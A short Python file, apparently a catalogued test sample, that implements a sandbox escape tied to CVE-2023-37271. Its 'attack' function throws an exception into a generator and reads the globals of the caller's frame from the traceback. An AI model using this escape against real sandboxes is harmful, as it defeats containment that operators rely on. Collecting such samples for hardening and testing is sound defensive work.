"""Class: frames. Source: CVE-2023-37271. Escape: throw() into a generator comes back with its
frames.
"""


def attack(model, tokenizer, address):
    def inside():
        yield 1

    running = inside()
    next(running)
    try:
        running.throw(ValueError())
    except ValueError as error:
        return error.__traceback__.tb_frame.f_globals
